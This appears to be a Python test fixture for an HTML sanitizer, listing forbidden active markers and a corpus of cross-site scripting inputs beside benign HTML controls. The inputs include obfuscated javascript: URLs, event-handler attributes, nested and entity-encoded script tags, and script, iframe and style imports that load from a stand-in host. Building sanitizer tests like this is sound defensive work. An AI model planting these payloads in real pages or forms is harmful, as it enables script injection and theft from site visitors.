"""Hostile customization corpus shared by the sanitizer and acceptance tests."""

# markers that must never survive sanitization, lowercased
ACTIVE_MARKERS = ("<script", "<applet", "<iframe", "onerror", "onload",
                  "onclick", "javascript:")

XSS_VECTORS = [
    '<script>{"op":"connect"}</script>',
    '<script src="http://attack.test/x"></script>',
    "<SCRIPT>payload</SCRIPT>",
    "<ScRiPt>payload</sCrIpT>",
    '<applet codebase="http://attack.test"></applet>',
    '<APPLET CODEBASE="http://attack.test">x</APPLET>',
    '<iframe src="http://attack.test/"></iframe>',
    '<IFRAME SRC="http://attack.test/">fallback</IFRAME>',
    '<frame src="http://attack.test/"></frame>',
    '<img name="x" onerror="steal()">',
    '<img src="x" onerror=alert(1)>',
    "<b onclick=\"run()\">bold</b>",
    "<div onload='go()'>d</div>",
    "<p onmouseover=x>p</p>",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JAVASCRIPT:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>x</script>">x</a>',
    "<a href='javascript:alert(String.fromCharCode(88))'>x</a>",
    "<scr<script>ipt>nested</script>",
    "<script>a</script><script>b</script>",
    "<<script>alert(1)//<</script>",
    "<script",
    "<script >x</script >",
    "</script><script>late</script>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<style>@import 'http://attack.test/x';</style>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "&lt;script&gt;encoded&lt;/script&gt;",
    "&#60;script&#62;numeric&#60;/script&#62;",
    "&#x3c;script&#x3e;hexed&#x3C;/script&#x3E;",
    '<a href="&#106;avascript:alert(1)">entity scheme</a>',
    '<a href="&#x6A;avascript:alert(1)">entity scheme</a>',
    "<img name=\"ok.png\"><script>both</script>",
    "<b>fine</b><applet codebase=\"http://a\">bad</applet>",
    "plain text only",
    "<b>bold</b> and <i>italic</i>",
    '<a href="http://example.test/page">good link</a>',
    '<a href="https://example.test/page">good ssl link</a>',
    '<font color="red" size="4">styled</font>',
    '<img name="logo.png" alt="logo">',
    "<ul><li>one</li><li>two</li></ul>",
    "unterminated <b>bold",
    "stray </b> closer",
    "<p>para with <unknowntag attr='1'>odd</unknowntag> tag</p>",
    "a < b and c > d",
    "5 &lt; 6 &amp;&amp; 7 &gt; 3",
    "attr gap <a href = 'http://ok.test/'>x</a>",
    "<!-- comment --><b>after comment</b>",
    "<!DOCTYPE html><b>after doctype</b>",
]
